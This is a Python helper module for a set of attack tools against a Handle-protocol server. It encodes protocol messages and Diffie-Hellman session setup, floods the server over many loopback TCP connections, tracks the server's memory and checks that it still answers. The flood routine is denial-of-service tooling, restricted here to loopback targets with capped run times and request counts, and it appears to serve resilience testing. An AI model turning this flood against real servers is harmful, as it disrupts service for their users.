"""Just enough of the Handle native protocol for the attack tools (stdlib only).

Layouts as in docs/handle-protocol.md: 20-byte envelope, 24-byte header, body,
empty credential. Also the tools' shared command line and checks: loopback
targets only, bounded runs, the server's RSS from /proc, and the final
"does it still answer an ordinary request" probe.
"""
import argparse
import collections
import os
import socket
import struct
import sys
import time

RESOLUTION, CREATE_HANDLE, VERIFY_CHALLENGE, SESSION_SETUP = 1, 100, 201, 400
REC, CA, PO, CT, RD = 0x10000000, 0x08000000, 0x01000000, 0x40000000, 0x00800000
CODES = {1: "SUCCESS", 2: "ERROR", 3: "SERVER_TOO_BUSY", 4: "PROTOCOL_ERROR", 100: "HANDLE_NOT_FOUND",
         402: "AUTHENTICATION_NEEDED", 403: "AUTHENTICATION_FAILED", 500: "SESSION_TIMEOUT (ask over TCP)",
         504: "INVALID_SESSIONSETUP_REQUEST"}
# RFC 2409 group 2, as the Java client's default DH parameters.
DH_P = int("ffffffffffffffffc90fdaa22168c234c4c6628b80dc1cd129024e088a67cc74020bbea63b139b22514a08798e3404dd"
           "ef9519b3cd3a431b302b0a6df25f14374fe1356d6d51c245e485b576625e7ec6f44c42e9a637ed6b0bff5cb6f406b7ed"
           "ee386bfb5a899fa5ae9f24117c4b1fe649286651ece65381ffffffffffffffff", 16)


def u32(n):
    return struct.pack(">I", n & 0xFFFFFFFF)


def i32(n):
    return struct.pack(">i", n)


def blob(b):
    """`bytes`/`utf8`: u32 length, then the bytes."""
    if isinstance(b, str):
        b = b.encode()
    return u32(len(b)) + b


def value(index, vtype, data):
    """A handle value record (§2.2): default TTL and permissions, no references."""
    return i32(index) + i32(0) + b"\x00" + i32(86400) + b"\x0e" + blob(vtype) + blob(data) + u32(0)


def resolution(handle):
    return blob(handle) + u32(0) + u32(0)


def create(handle, values):
    return blob(handle) + u32(len(values)) + b"".join(values)


def big_int(n):
    """Two's-complement big-endian, as Java writes BigIntegers."""
    return n.to_bytes(n.bit_length() // 8 + 1, "big")


def session_setup(identity=b"", index=-1, timeout=86400):
    """SESSION_SETUP mode 4 (Diffie-Hellman) with a fresh key of group 2."""
    y = pow(2, int.from_bytes(os.urandom(32), "big"), DH_P)
    key = blob("DH_PUB_KEY") + b"\x00\x00" + blob(big_int(y)) + blob(big_int(DH_P)) + blob(big_int(2))
    return struct.pack(">H", 4) + i32(timeout) + blob(identity) + i32(index) + blob(key) + b"\x00\x00"


def unit(op, body, request_id, flags=REC | CA | PO, session_id=0):
    """Envelope + header + body + empty credential, protocol 2.10."""
    header = u32(op) + u32(0) + u32(flags) + struct.pack(">HBB", 0xFFFF, 0, 0) + u32(int(time.time()) + 43200)
    message = header + u32(len(body)) + body + u32(0)
    envelope = bytes([2, 10, 2, 10]) + i32(session_id) + i32(request_id) + i32(0) + u32(len(message))
    return envelope + message


def response_code(data):
    """(request id, response code, session id) of a response unit (code None
    for a later datagram of a multi-datagram UDP answer)."""
    if len(data) < 28 or struct.unpack(">i", data[12:16])[0] != 0:
        return None, None, None
    session_id, request_id = struct.unpack(">ii", data[4:12])
    return request_id, struct.unpack(">I", data[24:28])[0], session_id


def read_unit(sock):
    envelope = read_exact(sock, 20)
    length = struct.unpack(">I", envelope[16:20])[0]
    return envelope + read_exact(sock, length)


def read_exact(sock, n):
    out = b""
    while len(out) < n:
        chunk = sock.recv(n - len(out))
        if not chunk:
            raise ConnectionError(f"closed after {len(out)} of {n} bytes")
        out += chunk
    return out


def tcp_connect(target, source=None, timeout=5):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    if source:
        s.bind((source, 0))
    s.connect(target)
    return s


def tcp_flood(args, make_unit, label):
    """Send `make_unit(i, peers)` request units round-robin over one TCP
    connection per source address (127.0.0.2 …, --sources), reading each
    answer, within --seconds and --count. Returns (sent, Counter of
    `label(i, peers, code)`, whether the server side kept the connections)."""
    codes = collections.Counter()
    conns = [tcp_connect(args.addr, f"127.0.0.{2 + i}") for i in range(max(1, min(args.sources, 250)))]
    deadline = time.monotonic() + args.seconds
    sent = 0
    survived = True
    try:
        while sent < args.count and time.monotonic() < deadline:
            s = conns[sent % len(conns)]
            s.sendall(make_unit(sent, len(conns)))
            _, code, _ = response_code(read_unit(s))
            codes[label(sent, len(conns), CODES.get(code, code))] += 1
            sent += 1
    except OSError as e:
        print(f"attack stopped by the server side after {sent} requests: {e}")
        survived = False
    for s in conns:
        s.close()
    return sent, codes, survived


def rss_kib(pid):
    """Resident set size of `pid` in KiB, or None."""
    if pid is None:
        return None
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


def show_rss(label, pid):
    kib = rss_kib(pid)
    if kib is not None:
        print(f"server RSS {label}: {kib / 1024:.1f} MiB")
    return kib


def arguments(doc, **extra):
    """`HOST:PORT [--pid PID] [--seconds S] [--count N]` plus tool options."""
    p = argparse.ArgumentParser(description=doc, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("target", help="HOST:PORT of the server's native port (loopback only)")
    p.add_argument("--pid", type=int, help="server process id, to report its RSS")
    p.add_argument("--seconds", type=float, default=extra.pop("seconds", 10.0), help="longest attack time")
    p.add_argument("--count", type=int, default=extra.pop("count", 5000), help="most requests sent")
    p.add_argument("--probe", default="0.NA/TEST", help="handle the ordinary request resolves")
    for name, (default, text) in extra.items():
        p.add_argument("--" + name.replace("_", "-"), type=type(default), default=default, help=text)
    a = p.parse_args()
    host, port = a.target.rsplit(":", 1)
    if not (host.startswith("127.") or host == "localhost"):
        sys.exit("loopback targets only")
    a.addr = (host, int(port))
    a.seconds = min(a.seconds, 120.0)
    return a


def ordinary_request(args, udp=False):
    """Resolve the probe handle (PO) from 127.0.0.1 like any client; True on SUCCESS."""
    request_id = 424242
    request = unit(RESOLUTION, resolution(args.probe), request_id)
    try:
        if udp:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(2)
            for _ in range(3):
                s.sendto(request, args.addr)
                try:
                    data = s.recv(2048)
                    while response_code(data)[0] != request_id:
                        data = s.recv(2048)
                    break
                except socket.timeout:
                    continue
            else:
                print("ordinary UDP resolution: no answer")
                return False
        else:
            s = tcp_connect(args.addr)
            s.sendall(request)
            data = read_unit(s)
        s.close()
    except OSError as e:
        print(f"ordinary resolution failed: {e}")
        return False
    _, code, _ = response_code(data)
    print(f"ordinary {'UDP' if udp else 'TCP'} resolution of {args.probe}: {CODES.get(code, code)}")
    return code == 1


def finish(args, survived, udp=False):
    """Exit 0 when the server survived and still answers an ordinary request."""
    ok = ordinary_request(args, udp) and survived
    if args.pid is not None and not os.path.exists(f"/proc/{args.pid}"):
        print(f"server process {args.pid} is gone")
        ok = False
    sys.exit(0 if ok else 1)
